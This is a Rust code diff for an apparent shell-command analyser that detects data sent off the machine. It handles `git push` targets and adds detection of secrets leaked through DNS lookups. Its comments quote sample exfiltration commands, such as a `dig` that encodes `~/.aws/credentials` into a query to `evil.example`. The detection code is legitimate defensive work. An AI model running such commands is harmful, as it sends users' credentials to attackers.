@@ -41,11 +41,15 @@ pub(super) fn sent(analysis: &ShellAnalysis, i: usize, scope: &Scope, writes: &W
     match c.program.as_str() {
         "git" => {
             // `git push URL`: the commits go to a host named on the line, not a configured
-            // remote.
-            if let Some(w) = c.operands().get(1).filter(|w| {
-                w.text.contains("://") || (w.text.contains('@') && w.text.contains(':'))
-            }) {
-                items.push(Payload::PushUrl(w.text.clone()));
+            // remote; else to the remote named (`origin` when none is).
+            match c.operands().get(1) {
+                Some(w)
+                    if w.text.contains("://") || (w.text.contains('@') && w.text.contains(':')) =>
+                {
+                    items.push(Payload::PushUrl(w.text.clone()))
+                }
+                Some(w) => items.push(Payload::PushRemote(w.text.clone())),
+                None => items.push(Payload::PushRemote("origin".into())),
             }
         }
         "curl" | "wget" => request(&line, &mut items),
@@ -94,6 +98,49 @@ pub(super) fn sent(analysis: &ShellAnalysis, i: usize, scope: &Scope, writes: &W
     let substituted = substituted(analysis, i);
     if !substituted.is_empty() {
         items.push(Payload::Output(line.source(substituted)));
+    }
+    Sent {
+        command: Some(i),
+        program: c.program.clone(),
+        items,
+    }
+}
+
+/// What command `i` (a resolver) sends by looking up `name`, a name built from data ending
+/// in `domain`: the name, a secret-looking variable in it, and the output of the commands
+/// substituted into it (`dig $(cat ~/.aws/credentials | base64).evil.example`).
+pub(super) fn lookup(
+    analysis: &ShellAnalysis,
+    i: usize,
+    scope: &Scope,
+    writes: &Writes,
+    name: &Word,
+    domain: String,
+) -> Sent {
+    let Some(c) = analysis.commands.get(i) else {
+        return Sent::default();
+    };
+    let line = Line {
+        analysis,
+        i,
+        c,
+        scope,
+        writes,
+    };
+    let mut items = vec![Payload::Name {
+        name: name.text.clone(),
+        domain,
+    }];
+    text(&name.text, Part::Url, &mut items);
+    let substituted = substituted(analysis, i);
+    if !substituted.is_empty() {
+        items.push(Payload::Output(line.source(substituted)));
+    }
+    // `… | xargs -I{} dig {}.evil.example`: the name is made of what is piped in.
+    if c.args_from_stdin
+        && let Some(j) = c.stdin_from
+    {
+        items.push(Payload::Output(line.source(vec![j])));
     }
     Sent {
         command: Some(i),
